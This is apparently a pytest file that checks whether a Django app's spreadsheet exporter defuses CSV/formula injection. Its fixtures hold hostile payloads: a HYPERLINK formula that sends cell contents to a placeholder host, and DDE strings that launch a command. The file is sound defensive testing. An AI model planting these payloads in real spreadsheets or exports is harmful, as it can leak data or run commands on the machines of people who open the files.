"""No exported cell may run as a formula when the file is opened (CSV/formula injection), and an
export still imports back exactly."""

import csv
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from ancrage.activities.models import Action, Person, Structure
from ancrage.programmes.models import Programme
from ancrage.workbook.exporter import export_workbook
from ancrage.workbook.importer import import_workbook

from .workbooks import minimal_sheets, write_csv

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x?d="&B2,"x")'
DDE = "=cmd|' /C calc'!A0"
SUM = "=2+3"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_programme(tmp_path) -> Programme:
    """Texts typed by a malicious user in the browser; the CSV import keeps them as text."""
    sheets = minimal_sheets()
    sheets["actions"][0]["intitule"] = HYPERLINK
    sheets["actions"][1]["intitule"] = SUM
    sheets["personnes"][0]["profession"] = DDE
    sheets["personnes"][1]["profession"] = "-animateur"
    sheets["structures"][0]["nom"] = SUM
    sheets["structures"][1]["nom"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    return import_workbook(write_csv(sheets, tmp_path / "hostile", delimiter=",")).programme


def hostile_values() -> dict:
    return {
        "titles": sorted(Action.objects.values_list("title", flat=True)),
        "professions": sorted(Person.objects.values_list("profession", flat=True)),
        "structures": sorted(Structure.objects.values_list("name", flat=True)),
    }


def test_the_attack_a_plain_writer_would_let_through(tmp_path):
    """Without care, openpyxl writes a text starting with « = » as a live formula."""
    book = Workbook(write_only=True)
    book.create_sheet("actions").append([HYPERLINK])
    book.save(tmp_path / "naive.xlsx")
    cell = load_workbook(tmp_path / "naive.xlsx")["actions"]["A1"]
    assert cell.data_type == "f"


def test_no_exported_xlsx_cell_is_a_formula(tmp_path):
    programme = hostile_programme(tmp_path)
    path = export_workbook(programme, tmp_path / "export.xlsx")
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    book = load_workbook(path)
    texts = {c.value: c for ws in book for row in ws.iter_rows() for c in row if c.value}
    for value in (HYPERLINK, DDE, SUM):
        assert texts[value].data_type == "s"
        assert texts[value].quotePrefix  # stays text when the user edits the cell


def test_no_exported_csv_cell_starts_like_a_formula(tmp_path):
    programme = hostile_programme(tmp_path)
    folder = export_workbook(programme, tmp_path / "export-csv")
    cells = []
    for path in folder.glob("*.csv"):
        with open(path, encoding="utf-8", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert "'" + HYPERLINK in cells and "'" + DDE in cells and "'" + SUM in cells
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]


@pytest.mark.parametrize("target", ["export.xlsx", "export-csv"])
def test_hostile_texts_import_back_exactly(tmp_path, target):
    programme = hostile_programme(tmp_path)
    before = hostile_values()
    assert SUM in before["titles"] and DDE in before["professions"]
    export_workbook(programme, tmp_path / target)
    Programme.objects.all().delete()
    import_workbook(tmp_path / target)
    assert hostile_values() == before
